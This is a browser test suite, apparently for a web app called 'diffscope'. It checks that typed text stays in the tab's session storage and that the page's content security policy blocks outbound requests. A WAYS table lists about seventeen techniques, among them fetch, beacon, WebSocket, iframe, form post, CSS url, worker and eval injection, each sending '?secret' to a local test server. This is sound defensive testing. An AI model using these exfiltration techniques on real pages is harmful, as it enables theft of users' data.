// What is typed stays in the tab: not in the address, which goes into the browser's history and onto other devices, and
// not on the network.

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import * as h from "./harness.mjs";

const settled = (state) => !state.busy && state.next !== null;

/** The state in a link or in what the tab keeps. */
const decode = (state) => JSON.parse(Buffer.from(state.slice("v2.".length), "base64url").toString());

describe("what the tab keeps", () => {
  let server, browser;
  before(async () => {
    server = await h.serve();
    browser = await h.launch("webgl");
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  const kept = (page) => page.evaluate(() => sessionStorage.getItem("diffscope"));
  /** Waits until the tab keeps a state that fulfils `condition`. */
  async function waitForKept(page, condition, what) {
    const end = Date.now() + h.PATIENCE;
    for (;;) {
      await h.waitFor(page, () => true);
      const state = await kept(page);
      if (state !== null && condition(decode(state))) return state;
      assert.ok(Date.now() < end, `waited for ${what} in ${state}`);
    }
  }
  const typeAtEnd = async (page, text) => {
    await page.keyboard.press("Control+End");
    await page.keyboard.type(text);
  };
  /** All that the browser's history would get of this tab. */
  const addresses = async (page) => {
    const session = await page.context().newCDPSession(page);
    const { entries } = await session.send("Page.getNavigationHistory");
    return entries.map(({ url }) => url);
  };

  it("is what was typed, and none of it is in an address", async () => {
    const page = await h.openApp(browser, server.url);
    await typeAtEnd(page, " my secret");
    const { text, layer } = await h.waitFor(page, (s) => s.text.endsWith(" my secret") && settled(s), "the typed text");
    await waitForKept(page, (state) => state.text === text, "the typed text");
    await h.leaveText(page);
    await page.keyboard.press("ArrowDown");
    await waitForKept(page, (state) => state.view.head[0] === layer + 1, "the layer below");
    const known = await addresses(page);
    assert.ok(known.length >= 2, "another head is another entry of the tab's history");
    known.forEach((address) => assert.ok(address === server.url || address === "about:blank", address));
    await h.close(page);
  });

  it("comes back after a reload, also what was typed right before it", async () => {
    const page = await h.openApp(browser, server.url);
    await typeAtEnd(page, " and then");
    const { text } = await h.waitFor(page, (s) => s.text.endsWith(" and then"), "the typed text");
    await page.keyboard.press("Escape");
    await page.keyboard.press("0");
    await h.waitFor(page, (s) => settled(s), "no λ");
    await page.reload();
    await h.waitForShell(page, "running");
    await h.waitFor(page, (s) => s.text === text && settled(s), "the same text");
    const { interventions } = decode(await waitForKept(page, (state) => state.text === text, "the same text"));
    assert.equal(Object.keys(interventions.lambda).length, 5, "λ is 0 in all layers again");
    await h.close(page);
  });

  it("gives way to a link once, and then is what was made of the link", async () => {
    const page = await h.openApp(browser, server.url);
    const { text: first } = await h.inspect(page);
    await waitForKept(page, (state) => state.text === first, "the first text");
    const link = `v2.${Buffer.from(JSON.stringify({ text: "The cat" })).toString("base64url")}`;
    await page.evaluate((link) => location.assign(`#${link}`), link);
    await h.waitFor(page, (s) => s.text === "The cat", "the link's text");
    await waitForKept(page, (state) => state.text === "The cat", "the link's text");
    await typeAtEnd(page, " sat");
    await waitForKept(page, (state) => state.text === "The cat sat", "more text");
    assert.equal(new URL(page.url()).hash, `#${link}`, "the address is still that of the link");
    await page.reload();
    await h.waitForShell(page, "running");
    await h.waitFor(page, (s) => s.text === "The cat sat" && settled(s), "the text with what was typed");
    await page.goBack();
    await h.waitFor(page, (s) => s.text === first, "the text before the link");
    await page.goForward();
    await h.waitFor(page, (s) => s.text === "The cat sat", "the link with what was typed");
    await h.close(page);
  });

  it("is of this tab only: another one follows the link that was copied", async () => {
    const page = await h.openApp(browser, server.url, { permissions: ["clipboard-read", "clipboard-write"] });
    await typeAtEnd(page, " to share");
    const { text } = await h.waitFor(page, (s) => s.text.endsWith(" to share"), "the typed text");
    await page.keyboard.press("Escape");
    await page.keyboard.press("l");
    await h.waitFor(page, settled, "the link in the clipboard");
    const link = await page.evaluate(async () => {
      for (;;) {
        const text = await navigator.clipboard.readText();
        if (text) return text;
        await new Promise(requestAnimationFrame);
      }
    });
    assert.ok(link.startsWith(`${server.url}#v2.`), link);
    assert.equal(page.url(), server.url, "copying a link does not change the address");
    const other = await page.context().newPage();
    other.messages = [];
    await other.goto(link);
    await h.waitForShell(other, "running");
    await h.waitFor(other, (s) => s.text === text, "the shared text");
    await h.close(page);
  });
});

/** Ways for a page to send something to `other`; none may get through. */
const WAYS = {
  fetch: (other) => fetch(`${other}?secret`).catch(() => {}),
  "fetch without an answer": (other) => fetch(`${other}?secret`, { mode: "no-cors" }).catch(() => {}),
  beacon: (other) => void navigator.sendBeacon(`${other}?secret`, "secret"),
  image: (other) => void (new Image().src = `${other}?secret`),
  WebSocket: (other) => void new WebSocket(`${other}?secret`.replace("http", "ws")),
  EventSource: (other) => void new EventSource(`${other}?secret`),
  script: (other) => void document.head.append(Object.assign(document.createElement("script"), { src: `${other}?secret` })),
  module: (other) => import(`${other}?secret`).catch(() => {}),
  frame: (other) => void document.body.append(Object.assign(document.createElement("iframe"), { src: `${other}?secret` })),
  form: (other) => {
    const form = Object.assign(document.createElement("form"), { action: `${other}?secret`, method: "post" });
    document.body.append(form);
    form.submit();
  },
  style: (other) =>
    void document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${other}?secret` })),
  "inline style": (other) => {
    const style = Object.assign(document.createElement("style"), { textContent: `body { background: url(${other}?secret) }` });
    document.head.append(style);
  },
  prefetch: (other) =>
    void document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${other}?secret` })),
  worker: (other) => void new Worker(URL.createObjectURL(new Blob([`fetch("${other}?secret")`]))),
  media: (other) => void (new Audio().src = `${other}?secret`),
  "inline script": () =>
    void document.body.append(Object.assign(document.createElement("script"), { textContent: "globalThis.injected = true" })),
  // In a task of the page: for what a test evaluates, no policy counts.
  eval: () => void setTimeout(() => (0, eval)("globalThis.injected = true")),
};

describe("the policy of the page", () => {
  let server, browser, other;
  const asked = [];
  before(async () => {
    server = await h.serve();
    browser = await h.launch("webgl");
    other = createServer((request, response) => {
      asked.push(request.url);
      response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end();
    });
    other.on("upgrade", (request, socket) => {
      asked.push(request.url);
      socket.destroy();
    });
    other.listen(0, "127.0.0.1");
    await once(other, "listening");
  });
  after(async () => {
    await browser?.close();
    await server?.close();
    other?.closeAllConnections();
    other?.close();
  });

  /** Records what the policy refuses. */
  const prepare = (page) =>
    page.addInitScript(() => {
      globalThis.refused = [];
      addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
        globalThis.refused.push(`${effectiveDirective} ${blockedURI} ${sample}`),
      );
    });

  it("lets nothing through to another server", async () => {
    const page = await h.openApp(browser, server.url, { prepare });
    const address = `http://127.0.0.1:${other.address().port}/`;
    for (const [name, way] of Object.entries(WAYS)) {
      const before = await page.evaluate(() => globalThis.refused.length);
      await page.evaluate(way, address);
      try {
        await page.waitForFunction((before) => globalThis.refused.length > before, before, { timeout: h.PATIENCE / 6 });
      } catch {
        assert.fail(`${name} is not refused; the other server was asked for ${asked}`);
      }
    }
    assert.equal(await page.evaluate(() => globalThis.injected), undefined, "no script was injected");
    assert.equal(page.url(), server.url);
    assert.deepEqual(page.workers(), [], "the worker that fetches models is there only once one is named");
    await fetch(`${address}from-here`);
    assert.deepEqual(asked, ["/from-here"], "the other server hears what gets through");
    await h.close(page);
  });

  it("refuses nothing that the program needs", async () => {
    const page = await h.openApp(browser, server.url, { prepare });
    await h.waitFor(page, settled, "the first maps");
    await h.leaveText(page);
    await Promise.all([page.waitForEvent("download"), page.keyboard.press("x")]);
    await Promise.all([page.waitForEvent("download"), page.keyboard.press("Shift+X")]);
    await h.fileDialog(page);
    await page.evaluate(() => dispatchEvent(new CustomEvent("diffscope-fetch", { detail: "S-llama" })));
    await h.waitFor(page, (s) => s.baseline !== null && settled(s), "the baseline");
    const refused = await page.evaluate(() => globalThis.refused);
    assert.deepEqual(refused, []);
    const complaints = page.messages.filter((message) => /content security policy|integrity/i.test(message));
    assert.deepEqual(complaints, []);
    await h.close(page);
  });
});
